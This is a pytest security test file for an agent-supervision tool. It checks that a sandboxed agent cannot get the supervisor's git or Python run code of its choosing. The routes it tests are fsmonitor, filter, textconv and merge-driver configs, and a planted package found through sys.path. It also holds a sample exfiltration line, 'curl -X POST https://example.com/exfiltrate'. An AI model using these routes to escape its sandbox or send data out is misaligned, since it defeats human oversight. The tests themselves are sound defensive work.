"""Attacks on issue 13's team features from an agent's side (docs/security.md, section 10),
with real repositories and real git: what an agent writes into a repository must not make
the supervisor's or the service's git run a program the agent chose.

The route tested: a sandboxed agent may write anywhere in its worktree, so it can make a
repository there (`git init sub`, then `cd sub`: its cwd is recorded by its hooks and
discovery maps it to that embedded repository), or point its worktree's `.git` file at a
git directory of its own. Either way the repository's config is the agent's, and the diff
watcher and the conflict forecast run git in it, outside the sandbox."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest

from loomtui.git import diff as diffmod
from loomtui.git.conflicts import ConflictForecaster
from loomtui.git.diff import compute_diff
from loomtui.git.discovery import discover
from loomtui.store.db import connect, db_path
from tests import hook_fixtures
from tests.gitrepos import add_worktree, git, isolate, make_repo, write

pod, repo = hook_fixtures.pod, hook_fixtures.repo  # the bare pod and repository fixtures


@pytest.fixture(autouse=True)
def _git_env(monkeypatch, tmp_path):
    isolate(monkeypatch, tmp_path / "home")
    diffmod.clear_caches()


def _agents_repo(tmp_path: Path, marker: Path, key: str, value: str) -> list:
    """A pod repository with one agent worktree, inside which the agent made its own
    repository with `key = value` in its config and a change to diff; the worktrees
    discovery finds for an agent whose cwd is that repository."""
    repo = make_repo(tmp_path / "shop", {"f.txt": "one\n"})
    wt = add_worktree(repo, tmp_path / "wt" / "x", "agent/x")
    sub = make_repo(wt / "sub", {"a.txt": "a\n"})
    git(sub, "config", key, value)
    write(sub / "a.txt", "a\nb\n")
    assert not marker.exists()
    agent = SimpleNamespace(id=1, cwd=str(sub), worktree=None, repo=None)
    found = [w for w in discover([agent]) if 1 in w.agents]
    assert [w.path for w in found] == [str(sub)]
    return found


def test_core_fsmonitor_in_an_agents_repository_runs_nothing(tmp_path):
    marker = tmp_path / "ran-fsmonitor"
    found = _agents_repo(tmp_path, marker, "core.fsmonitor", f"touch {marker}; false #")
    worktree = found[0]
    result = compute_diff(worktree)
    compute_diff(worktree, patches=True)
    fc = ConflictForecaster(db_path(tmp_path / "pod"))
    connect(db_path(tmp_path / "pod")).close()
    try:
        fc.update(worktree, result)
    finally:
        fc.close()
    assert "a.txt" in {f.path for f in result.files}  # git did run in it
    assert not marker.exists(), "the service's git ran the agent's core.fsmonitor command"


def test_a_clean_filter_in_an_agents_repository_runs_nothing(tmp_path):
    marker = tmp_path / "ran-filter"
    found = _agents_repo(tmp_path, marker, "filter.ev.clean", f"sh -c 'touch {marker}; cat'")
    write(Path(found[0].path) / ".git" / "info" / "attributes", "* filter=ev\n")
    compute_diff(found[0])
    assert not marker.exists(), "the service's git ran the agent's clean filter"


def test_a_textconv_or_external_diff_in_an_agents_repository_runs_nothing(tmp_path):
    marker = tmp_path / "ran-textconv"
    found = _agents_repo(tmp_path, marker, "diff.ev.textconv", f"sh -c 'touch {marker}; cat \"$0\"'")
    sub = Path(found[0].path)
    git(sub, "config", "diff.ev.command", f"sh -c 'touch {marker}'")
    write(sub / ".git" / "info" / "attributes", "* diff=ev\n")
    result = compute_diff(found[0], patches=True)
    assert "a.txt" in {f.path for f in result.files}
    assert not marker.exists(), "the service's git ran the agent's textconv or diff command"


def test_a_merge_driver_in_an_agents_repository_runs_nothing(tmp_path):
    """merge-tree runs the merge driver an attribute names for a file both sides change."""
    from loomtui.git.run import run

    marker = tmp_path / "ran-merge-driver"
    found = _agents_repo(tmp_path, marker, "merge.ev.driver", f"sh -c 'touch {marker}; false'")
    sub = Path(found[0].path)
    write(sub / ".git" / "info" / "attributes", "* merge=ev\n")
    git(sub, "commit", "-qam", "one side changes line 2")
    git(sub, "branch", "one")
    git(sub, "checkout", "-qb", "other", "HEAD~1")
    write(sub / "a.txt", "a\nc\n")
    git(sub, "commit", "-qam", "the other side changes it too")
    out = run(str(sub), "merge-tree", "--write-tree", "--name-only", "--no-messages", "other", "one", ok=(0, 1))
    assert b"a.txt" in out  # the content conflict git reports instead
    assert not marker.exists(), "the service's git ran the agent's merge driver"


def test_git_lfs_standard_filters_are_kept(tmp_path):
    """git-lfs's own commands are not the agent's choice, and its users' diffs need them."""
    from loomtui.git.run import drivers_off, git_env

    repo = make_repo(tmp_path / "lfs", {"f.txt": "x\n"})
    git(repo, "config", "filter.lfs.clean", "git-lfs clean -- %f")
    git(repo, "config", "filter.lfs.process", "git-lfs filter-process")
    git(repo, "config", "filter.ev.clean", "evil")
    off = drivers_off(str(repo), git_env())
    assert "filter.ev.clean=" in off and "filter.ev.required=false" in off
    assert not any(item.startswith("filter.lfs.") for item in off)


def test_the_hooks_detached_notify_sender_imports_nothing_from_the_agents_worktree(tmp_path, monkeypatch):
    """A hook runs outside the agent's sandbox, in the agent's working directory, and with no
    pod service it starts `python -m loomtui.notify POD`. `-m` puts the current directory first
    on sys.path: a `loomtui/` package the (sandboxed) agent wrote in its worktree would be the
    one imported, its code run unsandboxed."""
    from loomtui import notify
    from tests.test_notify import add_agent, add_gate, lines, recorder, rows

    pod = tmp_path / "pod"
    connect(db_path(pod)).close()
    out, script = recorder(tmp_path)
    (pod / "config.toml").write_text(f'[notify]\ncommand = ["{script}"]\nungoverned = false\n')
    worktree = make_repo(tmp_path / "wt", {"f.txt": "one\n"})
    marker = tmp_path / "ran-agents-code"
    write(worktree / "loomtui" / "__init__.py", f"open({str(marker)!r}, 'w').close()\n")
    write(worktree / "loomtui" / "notify.py", "")
    add_gate(pod, add_agent(pod), "git push origin auth")
    monkeypatch.chdir(worktree)  # where Claude Code runs its hooks: the project directory
    notify.kick(pod, {**__import__("os").environ, "LOOM_HOME": str(pod)})
    from tests.waiting import wait_for

    wait_for(lambda: marker.exists() or lines(out), "the detached sender to run")
    assert not marker.exists(), "the detached sender imported the agent's loomtui package"
    wait_for(lambda: set(rows(pod).values()) == {("sent", "")}, "the notification to be marked sent")


def test_the_pod_service_a_console_starts_imports_nothing_from_the_consoles_directory(tmp_path, monkeypatch):
    """A supervisor may open the console in an agent's worktree; the service it starts is
    `python -m loomtui serve`, and `-m` would put that directory first on sys.path."""
    from loomtui import service

    pod = tmp_path / "pod"
    connect(db_path(pod)).close()
    worktree = tmp_path / "wt"
    marker = tmp_path / "ran-agents-code"
    write(worktree / "loomtui" / "__init__.py", f"open({str(marker)!r}, 'w').close()\n")
    write(worktree / "loomtui" / "__main__.py", "")
    monkeypatch.chdir(worktree)
    proc = service.start_detached(pod)
    assert proc is not None
    try:
        from tests.waiting import wait_for

        wait_for(lambda: marker.exists() or service.running(pod), "the service to answer")
        assert not marker.exists(), "the pod service imported the agent's loomtui package"
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def test_the_mcp_server_command_init_writes_imports_nothing_from_the_agents_directory(tmp_path, monkeypatch):
    """With `loomtui` off the PATH, init writes `python -m loomtui mcp` into .mcp.json; the
    agent's tool starts it in the agent's directory, outside the sandbox."""
    import subprocess
    import sys

    from loomtui.hooks import install

    monkeypatch.setattr(sys, "argv", [sys.executable])  # not started as the `loomtui` script
    command, args = install.mcp_command()
    worktree = tmp_path / "wt"
    marker = tmp_path / "ran-agents-code"
    write(worktree / "loomtui" / "__init__.py", f"open({str(marker)!r}, 'w').close()\n")
    write(worktree / "loomtui" / "__main__.py", "")
    done = subprocess.run([command, *args[:-1], "--version"], cwd=worktree, capture_output=True, text=True,
                          timeout=60, check=False)
    assert not marker.exists(), "the MCP server's command imported the agent's loomtui package"
    assert done.returncode == 0 and done.stdout.strip()


def test_a_budget_raise_gives_a_waiting_call_no_more_than_the_policy_would(pod, repo):
    """Not over budget, `curl -X POST` is left to the agent's own permissions (the hook
    answers nothing: Claude Code asks, and its PermissionRequest reaches the inbox). Over
    budget, it waits in a budget gate; a raise releases the gate, and the hook then answers
    as it would have under the budget (nothing: the agent's own prompt asks), never allow
    for a call nobody saw."""
    import time

    from loomtui.store.gates import get_gate
    from tests.test_budget_cli import start_under_an_agent
    from tests.test_budgets import add_usage
    from tests.test_hook import SESSION, bash, finish, hook, wait_for_gate
    from tests.test_supervisors import loom
    from tests.waiting import wait_for

    call = bash("curl -X POST https://example.com/exfiltrate", repo)
    assert hook(pod, call)[:2] == (0, "")  # the policy passes it: the agent's own permissions ask
    conn = connect(db_path(pod))
    try:
        agent, name = conn.execute("SELECT id, name FROM agents WHERE session_id = ?", (SESSION,)).fetchone()
        add_usage(conn, agent, time.time() - 30, tokens=11_000, usd=0.2, session=SESSION)
        assert loom(pod, "budget", "set", "--agent", name, "--period", "session", "--tokens", "10000").returncode == 0
        proc = start_under_an_agent(pod, call)
        gate_id = wait_for_gate(pod)
        done = loom(pod, "budget", "set", "--agent", name, "--period", "session", "--tokens", "50000",
                    LOOM_USER="ana")
        assert done.returncode == 0, done.stderr
        wait_for(lambda: proc.poll() is not None, "the waiting hook to answer")
        code, out, _ = finish(proc)
        assert get_gate(conn, gate_id).status == "approved"  # the raise released it...
        assert (code, out) == (0, ""), "a budget raise allowed a call the policy left to a person"  # ...to its prompt
    finally:
        conn.close()
